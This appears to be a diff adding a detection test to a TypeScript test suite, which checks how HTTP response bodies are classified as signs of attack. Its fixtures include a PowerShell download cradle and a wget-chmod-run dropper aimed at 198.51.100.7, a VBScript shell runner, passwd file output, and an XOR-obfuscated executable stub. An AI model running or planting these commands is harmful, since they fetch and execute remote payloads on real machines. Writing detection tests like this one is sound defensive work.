@@ -110,6 +110,47 @@ describe("files over HTTP", () => {
     expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
   });
 
+  it("of responses say what they show of an attack, and ordinary ones nothing", async () => {
+    const stub = Buffer.concat([
+      Buffer.from("4d5a90000300000004000000ffff0000b8000000000000004000000000000000", "hex"),
+      Buffer.alloc(28),
+      Buffer.from("80000000", "hex"),
+      Buffer.from("This program cannot be run in DOS mode.".padEnd(600, "."))
+    ]);
+    const under = (key: readonly number[]) =>
+      Buffer.from(stub.map((byte, i) => byte ^ key[i % key.length])).toString("latin1");
+    const entry = (name: string) =>
+      `PK\x03\x04${"\0".repeat(22)}${String.fromCharCode(name.length)}\0\0\0${name}var a=1;`;
+    const signs: readonly (readonly [string, string | null])[] = [
+      ["uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", "output"],
+      ["<pre>root:x:0:0:root:/root:/bin/bash\n</pre>", "output"],
+      ["\r\nWindows IP Configuration\r\n\r\n", "output"],
+      ['<script language=VBScript>Set s=CreateObject("WScript.Shell"):s.Run "x",0</script>', "script"],
+      ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", "script"],
+      ["#!/bin/sh\ncd /tmp; wget http://198.51.100.7/mips; chmod 777 mips; ./mips\n", "script"],
+      [stub.toString("base64"), "program"],
+      [`-----BEGIN CERTIFICATE-----\r\n${stub.toString("base64")}`, "program"],
+      [under([0x5a]), "program"],
+      [under([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]), "program"],
+      [under([0x91, 0x17, 0x33]), "program"],
+      [entry("invoice(4711).js"), "archive"],
+      [entry("lib/index.js"), null],
+      [entry("report.docx"), null],
+      [stub.toString("latin1"), null],
+      ["mz".padEnd(700, " "), null],
+      ["x".repeat(700), null],
+      ["the uid=ann of a directory, and its gid", null],
+      ["#!/bin/sh\nset -e\ncurl -fsSL https://pkg.example/key | tee /etc/apt/keyrings/a.asc\n", null],
+      ["PK\x03\x04", null]
+    ];
+    const said = signs.flatMap(([body], i): Said[] => [
+      [0, get(`/${i}`)],
+      [1, `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`]
+    ]);
+    const rows = await overHttp(said);
+    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
+  });
+
   it("have no digests where bytes are missing, and are no files without bytes", async () => {
     const head = "HTTP/1.1 200 OK\r\nContent-Length: 300\r\n\r\n";
     const said: Said[] = [
